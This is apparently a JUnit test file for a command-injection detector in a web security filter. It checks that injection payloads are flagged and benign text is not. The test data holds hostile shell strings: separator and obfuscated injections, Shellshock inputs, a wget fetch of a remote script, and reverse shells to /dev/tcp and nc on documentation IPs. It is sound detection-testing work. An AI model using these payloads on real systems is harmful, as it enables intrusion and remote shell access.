package dev.vigil.shield.detect.cmdi;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.core.Severity;
import dev.vigil.shield.detect.Detection;
import dev.vigil.shield.inspect.InspectedValue;
import dev.vigil.shield.inspect.Normalizer;
import dev.vigil.shield.inspect.Source;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CmdiDetectorTest {

    private final CmdiDetector detector = new CmdiDetector();

    private List<Detection> inspect(String raw) {
        List<Detection> found = new ArrayList<>();
        detector.inspect(new InspectedValue("query.q", "q", Source.QUERY, -1, Normalizer.variants(raw)), found::add);
        return found;
    }

    private String rule(String raw) {
        List<Detection> found = inspect(raw);
        assertThat(found).as("at most one detection per value: %s", raw).hasSizeLessThanOrEqualTo(1);
        return found.isEmpty() ? "none" : found.get(0).ruleId();
    }

    @Test
    void reports_its_id_and_category() {
        assertThat(detector.id()).isEqualTo("cmdi");
        assertThat(detector.category()).isEqualTo("cmdi");
    }

    @ParameterizedTest
    @CsvSource(
            delimiterString = " => ",
            quoteCharacter = '~',
            value = {
                // 001: a command after a separator
                "report.pdf; uname -a => VGL-CMDI-001",
                "8.8.4.4 && whoami => VGL-CMDI-001",
                "x || cat /etc/hosts => VGL-CMDI-001",
                "list | grep root => VGL-CMDI-001",
                "name%0Als -la /var => VGL-CMDI-001",
                "abc\" ; wget http://203.0.113.9/x.sh ; \" => VGL-CMDI-001",
                "q'; ping -c 4 198.51.100.2 ;' => VGL-CMDI-001",
                "value;/usr/local/bin/backup => VGL-CMDI-001",
                "1 & dir c:\\users => VGL-CMDI-001",
                "z;id; => VGL-CMDI-001",
                // 002: substitution
                "`hostname` => VGL-CMDI-002",
                "user$(printenv)x => VGL-CMDI-002",
                "diff <(ls /root) x => VGL-CMDI-002",
                // 005: obfuscation
                "x;w'h'o'am'i => VGL-CMDI-005",
                "x;c\\at${IFS}/etc/group => VGL-CMDI-005",
                "x;cat$IFS$9/etc/group => VGL-CMDI-005",
                "a|/???/?at /etc/hostname => VGL-CMDI-005",
                "b;{ls,-la,/tmp} => VGL-CMDI-005",
                "c;un$@ame -r => VGL-CMDI-005",
                "d&&who$()ami => VGL-CMDI-005",
                "e;w^h^o^a^m^i => VGL-CMDI-005",
                // 006: Windows
                "x & cmd.exe /c ver => VGL-CMDI-006",
                "| powershell -nop -w hidden => VGL-CMDI-006",
                "FOR /L %i IN (1,1,9) DO echo %i => VGL-CMDI-006",
                "IF EXIST c:\\boot.ini TYPE c:\\boot.ini => VGL-CMDI-006",
                "& net user guest /active:yes => VGL-CMDI-001",
                // 007: the value is a command line
                "cat /etc/issue => VGL-CMDI-007",
                "ls -la /home => VGL-CMDI-007",
                "/usr/bin/env => VGL-CMDI-007",
                "whoami => VGL-CMDI-007",
                "sleep 12 => VGL-CMDI-007",
                // 008: exec call, SSI
                "x';system('uname -a');// => VGL-CMDI-008",
                "<!--#exec cmd=\"ls\" --> => VGL-CMDI-008",
            })
    void detects_each_rule(String payload, String ruleId) {
        assertThat(rule(payload)).as(payload).isEqualTo(ruleId);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "x; bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
                "a|nc 203.0.113.7 9001 -e /bin/bash",
                "1;python3 -c 'import socket,os;s=socket.socket()'",
                "z; sh -i 2>&1",
            })
    void detects_reverse_shells_as_critical(String payload) {
        List<Detection> found = inspect(payload);
        assertThat(found).hasSize(1);
        assertThat(found.get(0).ruleId()).isEqualTo(CmdiDetector.REVERSE_SHELL);
        assertThat(found.get(0).severity()).isEqualTo(Severity.CRITICAL);
    }

    @ParameterizedTest
    @ValueSource(strings = {"() { :; }; /bin/true", "x=() { ignored; }; echo hi", "()  {  _; } >_[$($())] { id; }"})
    void detects_shellshock(String payload) {
        assertThat(rule(payload)).isEqualTo(CmdiDetector.SHELLSHOCK);
    }

    @Test
    void finds_commands_in_decoded_variants() {
        List<Detection> found = inspect("abc%3Bcat%20%2Fetc%2Fgroup");
        assertThat(found).hasSize(1);
        assertThat(found.get(0).variant().decoding()).isEqualTo("url");
        Detection d = found.get(0);
        assertThat(d.start()).isBetween(0, d.end());
        assertThat(d.end()).isLessThanOrEqualTo(d.variant().text().length());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                // prose with separators and English words that are also commands
                "Tom & Jerry",
                "R&D department; cost center 4411",
                "salt; pepper; more to taste",
                "I love my dog & cat",
                "dog;cat;bird",
                "Time & attendance | Sleep well",
                "Please find attached the file; type your name below",
                "Can you echo that? I did it; date was Monday.",
                "a hero; more than a man",
                "The cat sat on the mat. Cat food is expensive.",
                "id",
                "type",
                "user id 4411",
                // names, emails, prices, dates, markdown
                "O'Brien",
                "D'Angelo & Sons",
                "jane.doe+filter@example.com",
                "Price: $5 or $(5) with discount",
                "2024-03-01T10:00:00Z",
                "| Name | Type | Size |\n|------|------|------|\n| id | int | 4 |",
                "Run `ls -la` in the folder, then tell me.",
                "Use `cat` to view the file.",
                // URLs and query strings
                "https://shop.example.com/search?q=cat&type=toys&sort=price",
                "/api/items?id=5&cat=3&ls=1",
                "page=2&id=17&dir=asc&type=json",
                // code
                "$(document).ready(function() { $('#id').hide(); });",
                "if (a == b) { return x; }",
                "for (let i = 0; i < n; i++) { sum += i; }",
                "SELECT id, name FROM users WHERE id = 1; -- list",
                "{\"cmd\":\"search\",\"id\":42,\"tags\":[\"a\",\"b\"]}",
                "mutation Save($name: String!) {\n  save(name: $name) {\n    id\n  }\n}",
                "function () { return 1; }",
                "C:\\Windows\\System32\\drivers\\etc\\hosts",
                "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
                "curl and wget are both download tools",
                "Hello,\nwhoami is the name of a command",
                "I use bash; zsh is nicer",
                "Tom & Jerry; curl up on the sofa",
                "Fish & Chips; Sleep 8h",
                "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
                "SELECT `id`, `name` FROM `shop`.`users`",
                "SELECT first_name || ' ' || last_name, passwd FROM staff",
                "bash your head against the wall",
                "*",
                "*/*",
                "fields=*,title,region",
            })
    void ignores_hard_negatives(String benign) {
        assertThat(inspect(benign)).as(benign).isEmpty();
    }

    @Test
    void survives_odd_input() {
        String[] odd = {
            "",
            ";",
            "|",
            "&&",
            "`",
            "$(",
            "$(((",
            "${",
            "${IFS",
            "'",
            "\"",
            "\\",
            "\\n",
            "() {",
            "{,",
            "{a,b",
            "\uD800;id",
            ";\uDC00",
            "\0;\0",
            "FOR %",
            "IF ",
            "if /i",
            "[",
            "/???/",
            "c:\\",
            "<(",
            "<!--#exec"
        };
        for (String s : odd) {
            inspect(s);
        }
        StringBuilder big = new StringBuilder();
        for (int i = 0; i < 8000; i++) {
            big.append(";'\"`$((${IFS}{a,");
        }
        long t0 = System.nanoTime();
        inspect(big.toString());
        assertThat(System.nanoTime() - t0).isLessThan(2_000_000_000L);
    }
}
